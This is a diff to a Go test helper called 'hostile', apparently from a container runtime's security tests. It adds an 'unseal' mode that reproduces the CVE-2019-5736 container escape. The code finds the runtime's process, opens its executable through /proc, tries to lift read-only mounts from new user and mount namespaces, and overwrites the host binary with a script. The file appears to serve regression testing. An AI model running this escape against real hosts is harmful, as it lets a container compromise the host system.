@@ -7,14 +7,26 @@
 //	                       or "ptrace PID: <error>"
 //	hostile syscall NR...  make raw syscall NR with zero arguments; prints
 //	                       "syscall NR: ERRNO-NAME" ("ok" when it succeeds)
+//	hostile unseal HOLD    CVE-2019-5736 on Linux 6.x: wait for a berth run
+//	                       in a container by an image's `#!/proc/self/exe
+//	                       --log=HOLD` (blocked opening the FIFO HOLD), hold
+//	                       its executable, try to make it writable from a
+//	                       user and mount namespace of its own, let berth
+//	                       exit and write to it; prints each step's result
 //
 // It is static, so that it runs in a busybox root.
 package main
 
 import (
+	"errors"
 	"fmt"
 	"os"
+	"os/exec"
+	"path/filepath"
 	"strconv"
+	"strings"
+	"syscall"
+	"time"
 
 	"golang.org/x/sys/unix"
 )
@@ -53,6 +65,10 @@ func main() {
 			}
 			fmt.Printf("syscall %d: %s\n", nr, result)
 		}
+	case "unseal":
+		unseal(os.Args[2])
+	case "unseal-ns":
+		unsealInNamespaces(os.Args[2:])
 	default:
 		usage()
 	}
@@ -70,6 +86,164 @@ func exchange(a, b string) {
 }
 
 func usage() {
-	fmt.Fprintln(os.Stderr, "usage: hostile exchange A B | hostile ptrace PID | hostile syscall NR...")
+	fmt.Fprintln(os.Stderr, "usage: hostile exchange A B | hostile ptrace PID | hostile syscall NR... | hostile unseal HOLD")
 	os.Exit(2)
+}
+
+// unseal is the attack of CVE-2019-5736 as a container makes it on a
+// kernel where a process may change the attributes of a detached mount
+// from a user namespace of its own.
+func unseal(hold string) {
+	pid, err := waitForArg("--log=" + hold)
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	exePath := fmt.Sprintf("/proc/%d/exe", pid)
+	link, _ := os.Readlink(exePath)
+	fmt.Printf("found berth: pid %d, exe %s\n", pid, link)
+	exe, err := openPath(exePath)
+	if err != nil {
+		fmt.Printf("open %s: %v\n", exePath, err)
+		return
+	}
+	targets, names := []*os.File{exe}, []string{"exe"}
+	// The same file, should berth hold it open.
+	fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
+	for _, fd := range fds {
+		f, err := openPath(fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name()))
+		if err == nil && sameFile(f, exe) {
+			targets, names = append(targets, f), append(names, "fd "+fd.Name())
+		}
+	}
+
+	// As the container's process is, then from namespaces of its own,
+	// where it has every capability over its mount namespace.
+	held := make([]int, len(targets))
+	for i, f := range targets {
+		held[i] = int(f.Fd())
+	}
+	makeWritable("", held, names)
+	cmd := exec.Command("/proc/self/exe", append([]string{"unseal-ns"}, names...)...)
+	cmd.Stdout, cmd.Stderr, cmd.ExtraFiles = os.Stdout, os.Stdout, targets
+	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNS}
+	if err := cmd.Run(); err != nil {
+		fmt.Printf("unshare user and mount namespaces: %v\n", err)
+	}
+
+	// Let berth go on (it fails and exits), then write once it is gone.
+	// The FIFO stays open for reading until then, in case berth has not
+	// reached its open yet.
+	release, err := os.OpenFile(fmt.Sprintf("/proc/%d/root%s", pid, hold), os.O_RDONLY|unix.O_NONBLOCK, 0)
+	if err != nil {
+		fmt.Printf("release berth: %v\n", err)
+	}
+	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
+		if _, err := os.Stat(fmt.Sprintf("/proc/%d", pid)); err != nil {
+			break
+		}
+	}
+	if release != nil {
+		release.Close()
+	}
+	for i, f := range targets {
+		fmt.Printf("write %s: %s\n", names[i], writeWhenFree(f))
+	}
+	fmt.Println("done")
+}
+
+// unsealInNamespaces runs in new user and mount namespaces, with the
+// files it tries to make writable at fds 3 and up.
+func unsealInNamespaces(names []string) {
+	fmt.Println("unshare user and mount namespaces: ok")
+	fds := make([]int, len(names))
+	for i := range names {
+		fds[i] = 3 + i
+	}
+	makeWritable("in namespaces of its own: ", fds, names)
+}
+
+// makeWritable tries every way to make the mount and the filesystem of
+// each file writable: clear the mount's read-only attribute, remount it
+// read-write, and reconfigure its filesystem read-write.
+func makeWritable(prefix string, fds []int, names []string) {
+	for i, fd := range fds {
+		name := names[i]
+		attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
+		fmt.Printf("%smount_setattr %s: %s\n", prefix, name, result(unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &attr)))
+		fmt.Printf("%sremount %s: %s\n", prefix, name, result(unix.Mount("", fmt.Sprintf("/proc/self/fd/%d", fd), "", unix.MS_REMOUNT|unix.MS_BIND, "")))
+		fs, err := unix.Fspick(fd, "", unix.FSPICK_EMPTY_PATH|unix.FSPICK_CLOEXEC)
+		if err == nil {
+			err = unix.FsconfigSetFlag(fs, "rw")
+			if err == nil {
+				err = unix.FsconfigReconfigure(fs)
+			}
+			unix.Close(fs)
+		}
+		fmt.Printf("%sreconfigure %s read-write: %s\n", prefix, name, result(err))
+	}
+}
+
+// waitForArg returns the pid of a process with arg among its arguments.
+func waitForArg(arg string) (int, error) {
+	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
+		entries, _ := os.ReadDir("/proc")
+		for _, e := range entries {
+			pid, err := strconv.Atoi(e.Name())
+			if err != nil || pid == os.Getpid() {
+				continue
+			}
+			cmdline, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
+			for _, a := range strings.Split(string(cmdline), "\x00") {
+				if a == arg {
+					return pid, nil
+				}
+			}
+		}
+	}
+	return 0, fmt.Errorf("no process with argument %s", arg)
+}
+
+// writeWhenFree opens f for writing once no process runs it (ETXTBSY)
+// and writes a script over its start.
+func writeWhenFree(f *os.File) string {
+	path := fmt.Sprintf("/proc/self/fd/%d", f.Fd())
+	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(time.Millisecond) {
+		w, err := os.OpenFile(path, os.O_WRONLY, 0)
+		if errors.Is(err, unix.ETXTBSY) && time.Now().Before(deadline) {
+			continue
+		}
+		if err != nil {
+			return "open: " + result(err)
+		}
+		_, err = w.WriteAt([]byte("#!/bin/sh\necho pwned\n"), 0)
+		w.Close()
+		return result(err)
+	}
+}
+
+func openPath(path string) (*os.File, error) {
+	fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
+	if err != nil {
+		return nil, err
+	}
+	return os.NewFile(uintptr(fd), path), nil
+}
+
+func sameFile(a, b *os.File) bool {
+	var sa, sb unix.Stat_t
+	return unix.Fstat(int(a.Fd()), &sa) == nil && unix.Fstat(int(b.Fd()), &sb) == nil &&
+		sa.Dev == sb.Dev && sa.Ino == sb.Ino
+}
+
+func result(err error) string {
+	var errno unix.Errno
+	switch {
+	case err == nil:
+		return "ok"
+	case errors.As(err, &errno):
+		return unix.ErrnoName(errno)
+	default:
+		return err.Error()
+	}
 }
